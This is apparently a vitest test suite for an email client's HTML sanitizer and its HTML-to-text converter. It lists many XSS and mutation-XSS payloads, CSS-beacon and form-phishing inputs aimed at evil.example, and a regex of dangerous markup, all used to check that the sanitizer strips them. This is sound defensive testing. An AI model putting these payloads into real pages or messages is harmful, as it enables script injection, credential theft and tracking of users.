import { expect, test } from 'vitest';
import { htmlToText } from './html-to-text.ts';
import { sanitizeComposerHtml, sanitizeMailHtml } from './render-safe.ts';

const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/api/v1/tickets">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data=x>',
  '<embed src=x>',
  '<form action=https://evil.example><input name=p type=password><button>go</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<title><a title="</title><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<p style="position:fixed;top:0;left:0;z-index:9999">x</p>',
  '<p style="background:url(https://evil.example/t.gif)">x</p>',
  '<p style="background-image:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="margin-left:-9999px">x</p>',
  '<p style="color:red;behavior:url(x)">x</p>',
  '<p style="font-family:\'x\';background:u\\72l(https://evil.example)">x</p>',
  '<p style="content:\'x\';transform:scale(99)">x</p>',
  '<p style="color: red/**/;posi/**/tion:absolute">x</p>',
  '<table background="https://evil.example/t.gif"><tr><td background=x>x</td></tr></table>',
  '<img srcset="https://evil.example/a 1x">',
  '<video poster=x src=y></video>',
  '<div id=login class=modal>x</div>',
  '<a href=x ping=https://evil.example>x</a>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<input autofocus onfocus=alert(1)>',
  '<p onclick=alert(1) style=x data-x=1 contenteditable>x</p>',
  '<a href="https://ok.example" target=_top rel=opener>x</a>',
  '<details ontoggle=alert(1) open>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<p title="&quot; onmouseover=alert(1) x=&quot;">x</p>',
];
/** Whatever a browser could act on. Text that only speaks of it is escaped and does not match. */
const dangerous =
  /<(script|style|svg|math|iframe|object|embed|form|input|button|base|meta|link|template|noscript|textarea|select|xmp|plaintext|video|title|!)|<[^>]*\s(on[a-z]+|srcset|srcdoc|background|ping|id|action|formaction|contenteditable)\s*=|<[^>]*\s(href|src)="(?!https?:\/\/|mailto:|tel:|data:image\/(png|gif|jpe?g|webp);)|<[^>]*style="[^"]*(url|position|expression|z-index|behavior|transform|content:|-9999|@import|\\)/i;

test.each(hostile)('incoming %s can do nothing', (html) => {
  const clean = sanitizeMailHtml(`before ${html}`);
  expect(clean).not.toMatch(dangerous);
  expect(clean).toContain('before');
  expect(sanitizeMailHtml(clean)).not.toMatch(dangerous);
});

test.each(hostile)('composed %s can do nothing', (html) => {
  expect(sanitizeComposerHtml(html)).not.toMatch(dangerous);
});

test('cleaning twice changes nothing more than once', () => {
  for (const html of hostile) {
    const once = sanitizeMailHtml(html);
    expect(sanitizeMailHtml(once.replaceAll('data-remote-src=', 'src=').replaceAll('data-cid="', 'src="cid:'))).toBe(once);
  }
});

test('the sender cannot choose what a waiting image loads by the names that we use', () => {
  expect(sanitizeMailHtml('<img data-remote-src="javascript:alert(1)" data-cid="x" src="y">')).toBe('<img />');
});

test('tables, closed-list styles, mail links and quote marks survive', () => {
  const html =
    '<table width="600" border="0"><tr><td align="left" style="color:#333333;padding:4px 8px;font-family:Arial, sans-serif"><b>Hi</b> <a href="https://x.example/?a=1&amp;b=2">x</a> <a href="mailto:a@b.example">m</a></td></tr></table><div class="gmail_quote evil">q</div>';
  const clean = sanitizeMailHtml(html);
  expect(clean).toContain('<td align="left" style="color:#333333;padding:4px 8px;font-family:Arial, sans-serif">');
  expect(clean).toContain('href="https://x.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow"');
  expect(clean).toContain('href="mailto:a@b.example"');
  expect(clean).toContain('<div class="gmail_quote">');
});

test('remote images wait, images of the mail are named, small embedded ones stay', () => {
  expect(sanitizeMailHtml('<img src="https://x.example/a.png" width="10" alt="A"><img src="cid:a%40b"><img src="data:image/png;base64,AAAA">')).toBe(
    '<img alt="A" width="10" data-remote-src="https://x.example/a.png" /><img data-cid="a@b" /><img src="data:image/png;base64,AAAA" />',
  );
});

test('the composer keeps its own vocabulary', () => {
  const html = '<p>Hi <strong>you</strong></p><ul><li>one</li></ul><img src="cid:pic" alt="P" width="20" />';
  expect(sanitizeComposerHtml(html)).toBe('<p>Hi <strong>you</strong></p><ul><li>one</li></ul><img alt="P" width="20" src="cid:pic" />');
});

test.each([
  ['paragraphs', '<p>One</p><p>Two<br>lines</p>', 'One\n\nTwo\nlines'],
  ['divs as lines', '<div>One</div><div><br></div><div>Two</div>', 'One\n\nTwo'],
  ['lists', '<ol start="3"><li>a</li><li>b<ul><li>c</li></ul></li></ol>', '3. a\n4. b\n  - c'],
  [
    'links',
    '<a href="https://x.example/p">here</a> <a href="https://x.example">x.example</a> <a href="mailto:a@b.example">a@b.example</a>',
    'here (https://x.example/p) x.example a@b.example',
  ],
  ['nested quotes', '<p>a</p><blockquote>b<blockquote>c</blockquote></blockquote>d', 'a\n\n> b\n>\n> > c\n\nd'],
  ['entities and angle brackets', '1 &lt; 2 &amp;&amp; 3 &gt; 2 &eacute;', '1 < 2 && 3 > 2 é'],
  ['hidden text', 'seen<span style="display:none">hidden</span>', 'seen'],
  ['script and style', '<style>p{}</style><script>x</script>text', 'text'],
  ['table cells', '<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>', 'a b\nc'],
  ['preformatted', '<pre>a  b\n  c</pre>', 'a  b\n  c'],
])('as text: %s', (_name, html, expected) => {
  expect(htmlToText(html)).toBe(expected);
});
